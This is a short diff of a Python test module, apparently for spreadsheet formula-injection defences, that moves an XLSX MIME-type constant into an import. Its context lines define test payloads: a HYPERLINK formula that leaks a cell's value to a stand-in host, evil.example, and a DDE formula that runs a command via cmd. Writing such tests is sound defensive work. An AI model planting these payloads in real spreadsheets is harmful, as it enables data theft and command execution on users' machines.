@@ -15,6 +15,7 @@ from openpyxl import Workbook, load_workbook
 
 from app import clock
 from app.cells import put
+from app.downloads import XLSX
 from app.tables import Unit
 from plans.spreadsheet import read_plan
 from plans.tables import Field, Plan
@@ -24,7 +25,6 @@ from tests.builders import TaskSpec, make_plan
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 CALC = "=cmd|' /C calc'!A0"
 OTHERS = ("+1+1", "-2+3", "@SUM(A1:A2)")
-XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
 
 def sheet_xml(body: bytes) -> str:
